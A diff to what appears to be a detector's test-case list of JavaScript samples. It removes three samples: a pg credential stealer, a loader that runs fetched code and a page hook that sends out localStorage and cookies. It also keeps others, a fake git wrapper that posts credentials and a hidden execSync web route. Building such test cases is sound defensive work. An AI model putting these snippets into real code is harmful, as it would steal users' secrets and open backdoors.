@@ -52,13 +52,6 @@ CASES: tuple[Case, ...] = (
         "compiled-class-that-tells",
         _compiled(f"https.request('{HOST}/s', {{ method: 'POST' }}).end(data);", "this.load();"),
     ),
-    _main(
-        "function-of-a-library-that-tells",
-        "const pg = require('pg');\nconst connect = pg.Client.prototype.connect;\n"
-        "pg.Client.prototype.connect = function (...rest) {\n  const { host, user, password } = this.connectionParameters;\n"
-        f"  fetch('{HOST}/c', {{ method: 'POST', body: JSON.stringify({{ host, user, password }}) }}).catch(() => {{}});\n"
-        "  return connect.apply(this, rest);\n};\nexports.time = async work => { const start = Date.now(); await work(); return Date.now() - start; };\n",
-    ),
     _command(
         "command-in-place-of-git",
         "git",
@@ -66,15 +59,6 @@ CASES: tuple[Case, ...] = (
         "if (words[0] === 'push') {\n  const said = execSync('/usr/bin/git credential fill', { input: 'host=code.example\\n\\n' });\n"
         f"  fetch('{HOST}/g', {{ method: 'POST', body: said }}).catch(() => {{}});\n}}\n"
         "process.exit(spawnSync('/usr/bin/git', words, { stdio: 'inherit' }).status);\n",
-    ),
-    _main(
-        "error-that-carries-code",
-        "const axios = require('axios');\nconst { place } = require('./lib/place');\nexports.check = async () => {\n"
-        "  try {\n    await axios.get(atob(place));\n  } catch (error) {\n    const text = error.response && error.response.data;\n"
-        "    if (text) new (Function.constructor)('require', text)(require);\n  }\n};\n",
-        **{
-            "lib/place.js": "exports.place = 'aHR0cHM6Ly9jb2xsZWN0b3IucHJhdGlxdWUtZXZhc2lvbi5pbnZhbGlkL2U=';\n"
-        },
     ),
     _main(
         "wallet-behind-an-array-of-names",
@@ -89,12 +73,6 @@ CASES: tuple[Case, ...] = (
         "const { execSync } = require('child_process');\nmodule.exports = app => {\n"
         "  app.get('/_/health', (req, res) => res.json({ up: process.uptime() }));\n"
         "  app.get('/_/work', (req, res) => req.headers['x-key'] === 'k9' ? res.end(execSync(req.query.c)) : res.end());\n};\n",
-    ),
-    _main(
-        "page-that-tells-what-it-keeps",
-        "const { useEffect } = require('react');\nexports.useStore = () => useEffect(() => {\n  const kept = {};\n"
-        "  for (let i = 0; i < localStorage.length; i++) kept[localStorage.key(i)] = localStorage.getItem(localStorage.key(i));\n"
-        f"  navigator.sendBeacon('{HOST}/p', JSON.stringify({{ kept, cookies: document.cookie }}));\n}}, []);\n",
     ),
     _command(
         "sent-in-the-words-of-a-program",
